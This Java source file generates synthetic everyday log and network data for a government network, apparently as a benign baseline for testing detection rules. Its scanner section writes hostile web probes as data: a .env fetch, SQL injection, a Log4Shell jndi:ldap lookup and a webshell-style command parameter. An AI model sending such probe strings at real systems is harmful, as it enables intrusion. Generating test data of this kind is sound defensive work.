package songlam.rules;

import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * What goes on in a provincial network on any day: 200 people behind one NAT who mistype, mail read
 * on telephones, jobs, backups, the announced scanner, a few things administrators really do.
 */
final class OrdinaryWork {
  private static final int PEOPLE = 200;
  private static final String BROWSER =
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";
  private static final String NAT = "10.40.30.254";
  private static final String SCANNER = "10.40.60.5";
  private static final List<String> SERVERS =
      List.of("web-01", "app-01", "app-02", "db-01", "file-01", "mail-01");

  private final OrdinaryShift shift;
  private final Random random;

  OrdinaryWork(OrdinaryShift shift) {
    this.shift = shift;
    this.random = shift.random();
  }

  void tell() {
    people();
    machines();
    domain();
    mail();
    flows();
    packets();
    scanner();
    cameras();
    civic();
  }

  private void people() {
    for (int person = 0; person < PEOPLE; person++) {
      for (int i = 0; i < 4; i++) {
        long at = shift.officeTime();
        String host = SERVERS.get(random.nextInt(SERVERS.size()));
        String end = " for canbo" + person + " from " + NAT + " port " + port() + " ssh2";
        if (random.nextInt(4) == 0) {
          shift.line(at, host, "sshd", "Failed password" + end);
          shift.line(at + 4_000, host, "sshd", "Accepted password" + end);
        } else {
          shift.line(at, host, "sshd", "Accepted publickey" + end);
        }
      }
    }
    for (int i = 0; i < 60; i++) {
      String job =
          List.of("systemctl status nginx", "apt-get update", "journalctl -u nginx").get(i % 3);
      shift.line(
          shift.anyTime(),
          SERVERS.get(i % SERVERS.size()),
          "sudo",
          "an.nguyen : TTY=pts/0 ; PWD=/home/an.nguyen ; USER=root ; COMMAND=/usr/bin/" + job);
    }
    long at = shift.officeTime();
    shift.line(
        at,
        "app-02",
        "useradd",
        "new user: name=moi.le, UID=1042, GID=1042, home=/home/moi.le, shell=/bin/bash");
    shift.line(at + 9_000, "app-02", "usermod", "add 'moi.le' to group 'sudo'");
  }

  private void machines() {
    for (long at = OrdinaryShift.FROM; at < OrdinaryShift.TO; at += 60_000) {
      for (String host : SERVERS) {
        shift.line(
            at + random.nextInt(60_000), host, "CRON", "(root) CMD (/usr/lib/sysstat/sa1 1 1)");
        shift.line(
            at + random.nextInt(60_000), host, "systemd", "Started Session 7 of user an.nguyen.");
      }
    }
    for (int i = 0; i < 40; i++) {
      shift.line(
          shift.anyTime(),
          "fw-01",
          "kernel",
          "[UFW BLOCK] IN=eth0 OUT= MAC= SRC=192.0.2."
              + i
              + " DST=10.40.10.11 LEN=44 TOS=0x00 PREC=0x00 TTL=44 ID=1 PROTO=TCP SPT=51000 DPT=23 WINDOW=1024 RES=0x00 SYN URGP=0");
    }
  }

  private void domain() {
    for (int i = 0; i < 3_000; i++) {
      long at = shift.anyTime();
      int person = random.nextInt(PEOPLE);
      String who = "\"TargetUserName\":\"canbo%d\"".formatted(person);
      String ip = "\"IpAddress\":\"10.40.30.%d\"".formatted(10 + person % 200);
      switch (i % 6) {
        case 0 -> shift.security(at, "dc-01", 4624, who + ",\"LogonType\":\"3\"," + ip);
        case 1 ->
            shift.security(
                at,
                "dc-01",
                4768,
                who + ",\"TicketEncryptionType\":\"0x12\",\"Status\":\"0x0\"," + ip);
        case 2 ->
            shift.security(
                at,
                "dc-01",
                4769,
                who
                    + ",\"ServiceName\":\"FILE-01$\",\"TicketEncryptionType\":\"0x12\",\"Status\":\"0x0\","
                    + ip);
        case 3 ->
            shift.security(
                at,
                "pc-" + person,
                4688,
                "\"NewProcessName\":\"C:\\\\Program Files\\\\Microsoft Office\\\\WINWORD.EXE\",\"CommandLine\":\"winword.exe /n\"");
        case 4 -> shift.security(at, "dc-01", 4634, who + ",\"LogonType\":\"3\"");
        default -> {
          if (i % 30 == 5) {
            shift.security(
                at, "dc-01", 4625, who + ",\"LogonType\":\"3\",\"Status\":\"0xc000006d\"," + ip);
          }
        }
      }
    }
    shift.security(
        shift.anyTime(),
        "dc-01",
        4740,
        "\"TargetUserName\":\"canbo7\",\"TargetDomainName\":\"PC-7\"");
    shift.security(
        shift.anyTime(),
        "backup-01",
        4688,
        "\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\vssadmin.exe\",\"CommandLine\":\"vssadmin list shadows\"");
    shift.windows(
        shift.anyTime(),
        "pc-9",
        "System",
        "Service Control Manager",
        7045,
        "\"ServiceName\":\"Printer\",\"ImagePath\":\"C:\\\\Windows\\\\System32\\\\spool\\\\p.exe\"");
    shift.security(
        shift.anyTime(),
        "pc-9",
        4698,
        "\"TaskName\":\"\\\\GoogleUpdate\",\"TaskContent\":\"<Command>C:\\\\Program Files\\\\Google\\\\Update.exe</Command>\"");
  }

  private void mail() {
    for (int i = 0; i < 600; i++) {
      String phone = "198.51.100." + random.nextInt(200);
      shift.line(
          shift.anyTime(),
          "mail-01",
          "dovecot",
          "imap-login: Login: user=<canbo"
              + i % PEOPLE
              + "@nghean.gov.vn>, method=PLAIN, rip="
              + phone
              + ", lip=10.40.10.13, TLS, session=<s"
              + i
              + ">");
    }
    for (int i = 0; i < 12; i++) {
      shift.line(
          shift.anyTime(),
          "mail-01",
          "dovecot",
          "imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<canbo"
              + i
              + "@nghean.gov.vn>, method=PLAIN, rip=198.51.100."
              + i
              + ", lip=10.40.10.13, TLS, session=<f"
              + i
              + ">");
    }
  }

  private void flows() {
    for (int i = 0; i < 12_000; i++) {
      long at = i % 4 == 3 ? shift.anyTime() : shift.officeTime();
      String desk = "10.40.30." + (10 + random.nextInt(200));
      switch (i % 5) {
        case 0 -> shift.flow(at, desk, "10.40.10.11", 443, "tcp", 3_000, 60_000);
        case 1 -> shift.flow(at, desk, "10.40.10.15", 53, "udp", 74, 120);
        case 2 -> shift.flow(at, "10.40.20.21", "10.40.20.11", 5_432, "tcp", 9_000, 90_000);
        case 3 ->
            shift.flow(at, "10.40.104.11", "10.40.100." + (11 + i % 60), 554, "tcp", 900, 900_000);
        default ->
            shift.flow(
                at, desk, "198.51.100." + (1 + random.nextInt(90)), 443, "tcp", 20_000, 400_000);
      }
    }
    // A video conference of an hour, which the router tells of every minute; the backup of the
    // evening.
    for (int i = 0; i < 60; i++) {
      shift.flow(
          OrdinaryShift.FROM + i * 60_000L,
          "10.40.30.44",
          51_044,
          "198.51.100.91",
          443,
          "tcp",
          6_000_000,
          9_000_000);
      shift.flow(
          OrdinaryShift.TO - 3_600_000 + i * 50_000L,
          "10.40.20.11",
          "10.40.20.51",
          22,
          "tcp",
          90_000_000,
          9_000);
    }
    // A citizen fetches the recording of a session from the portal in the evening.
    for (int i = 0; i < 20; i++) {
      shift.flow(
          OrdinaryShift.TO - 3_600_000 + i * 60_000L,
          "10.40.10.11",
          443,
          "192.0.2.77",
          52_077,
          "tcp",
          40_000_000,
          400_000);
    }
    // Agents that ask for news about every minute: of a server, of every fourth desk left on.
    for (long at = OrdinaryShift.FROM; at < OrdinaryShift.TO; at += 60_000) {
      shift.flow(
          at + random.nextInt(12_000), "10.40.20.21", "198.51.100.92", 443, "tcp", 900, 1_200);
    }
    for (int desk = 10; desk < 210; desk += 4) {
      long first = OrdinaryShift.TO - 3_600_000 + random.nextInt(60_000);
      for (long at = first; at < OrdinaryShift.TO; at += 60_000) {
        shift.flow(
            at + random.nextInt(12_000),
            "10.40.30." + desk,
            "198.51.100.93",
            443,
            "tcp",
            900,
            1_200);
      }
    }
  }

  private void packets() {
    List<String> names =
        List.of(
            "nghean.gov.vn",
            "dichvucong.gov.vn",
            "baonghean.vn",
            "d1a2b3c4e5f6a7b8.cloudfront.net");
    for (int i = 0; i < 4_000; i++) {
      String desk = "10.40.30." + (10 + random.nextInt(200));
      switch (i % 4) {
        case 0, 1 ->
            shift.fields(
                shift.anyTime(),
                "sensor",
                Map.of(
                    "event.dataset",
                    "sensor.dns",
                    "event.category",
                    "network",
                    "network.protocol",
                    "dns",
                    "source.ip",
                    desk,
                    "destination.ip",
                    "10.40.10.15",
                    "dns.question.name",
                    names.get(i / 4 % 4),
                    "dns.question.type",
                    "A"));
        case 2 ->
            shift.fields(
                shift.anyTime(),
                "sensor",
                Map.of(
                    "event.dataset",
                    "sensor.http",
                    "event.category",
                    "web",
                    "network.protocol",
                    "http",
                    "source.ip",
                    "192.0.2." + random.nextInt(250),
                    "destination.ip",
                    "10.40.10.11",
                    "url.original",
                    "/tin-tuc?trang=" + i,
                    "http.request.method",
                    "GET",
                    "http.response.status_code",
                    i % 50 == 2 ? 404 : 200,
                    "user_agent.original",
                    BROWSER));
        default ->
            shift.fields(
                shift.anyTime(),
                "sensor",
                Map.of(
                    "event.dataset",
                    "sensor.tls",
                    "event.category",
                    "network",
                    "network.protocol",
                    "tls",
                    "source.ip",
                    desk,
                    "destination.ip",
                    "198.51.100.7",
                    "tls.client.server_name",
                    "dichvucong.gov.vn",
                    "tls.version",
                    "1.3",
                    "tls.version_protocol",
                    "tls"));
      }
    }
  }

  private void scanner() {
    long at = shift.officeTime();
    for (int host = 11; host < 21; host++) {
      for (int port = 1; port <= 200; port++) {
        shift.flow(at + port * 20, SCANNER, "10.40.20." + host, port, "tcp", 60, 40);
      }
    }
    for (int i = 0; i < 80; i++) {
      shift.line(
          at + i * 1_000L,
          "app-01",
          "sshd",
          "Failed password for invalid user admin from " + SCANNER + " port " + port() + " ssh2");
      String url =
          List.of(
                  "/.env",
                  "/tin?id=1+UNION+ALL+SELECT+1",
                  "/?x=${jndi:ldap://10.40.60.5/a}",
                  "/a.php?cmd=whoami")
              .get(i % 4);
      shift.fields(
          at + i * 1_000L,
          "sensor",
          Map.of(
              "event.dataset",
              "sensor.http",
              "event.category",
              "web",
              "network.protocol",
              "http",
              "source.ip",
              SCANNER,
              "destination.ip",
              "10.40.10.11",
              "url.original",
              url,
              "http.request.method",
              "GET",
              "http.response.status_code",
              200,
              "user_agent.original",
              "Nessus"));
    }
  }

  private void cameras() {
    for (int i = 0; i < 6_000; i++) {
      String camera = "cam_" + i % 60;
      boolean people = i % 7 == 0;
      shift.fields(
          shift.anyTime(),
          "frigate",
          Map.of(
              "event.dataset",
              "songlam.traffic_count",
              "songlam.camera.id",
              camera,
              "songlam.camera.name",
              "Ngã tư " + i % 60,
              "songlam.traffic.object",
              people ? "person" : "car",
              "songlam.traffic.count",
              random.nextInt(28),
              "songlam.place.name",
              "Ngã tư " + i % 60));
    }
    shift.fields(
        shift.anyTime(),
        "frigate",
        Map.of(
            "event.dataset",
            "songlam.camera_status",
            "songlam.camera.id",
            "cam_9",
            "songlam.camera.name",
            "Ngã tư 9",
            "songlam.camera.status",
            "offline",
            "songlam.place.name",
            "Ngã tư 9"));
  }

  private void civic() {
    for (int i = 0; i < 60; i++) {
      shift.fields(
          shift.anyTime(),
          "press",
          Map.of(
              "event.dataset",
              "songlam.press_item",
              "songlam.press.feed",
              "bao-" + i % 9,
              "songlam.press.story",
              "tin-" + i / 2,
              "songlam.press.title",
              "Tin " + i / 2,
              "songlam.press.tone",
              i % 5 == 0 ? "negative" : "neutral",
              "songlam.press.communes",
              "17920",
              "songlam.place.name",
              "phường Vinh Hưng"));
      shift.fields(
          shift.anyTime(),
          "open311",
          Map.of(
              "event.dataset",
              "songlam.field_report",
              "songlam.report.id",
              "pa-" + i,
              "songlam.report.service",
              "loai-" + i % 6,
              "songlam.report.status",
              "open",
              "songlam.place.commune_code",
              "17" + i % 40,
              "songlam.place.name",
              "phường " + i % 40,
              "songlam.report.due",
              OrdinaryShift.TO + 86_400_000L));
    }
    for (long at = OrdinaryShift.FROM; at < OrdinaryShift.TO; at += 30_000) {
      shift.fields(
          at,
          "probe",
          Map.of(
              "event.dataset",
              "songlam.service_check",
              "songlam.check.service",
              "Cổng thông tin",
              "songlam.check.up",
              at % 7_000_000 >= 30_000,
              "songlam.check.duration_ms",
              80 + random.nextInt(900),
              "songlam.check.certificate_expires",
              OrdinaryShift.TO + 90 * 86_400_000L));
    }
  }

  private int port() {
    return 32_768 + random.nextInt(28_000);
  }
}
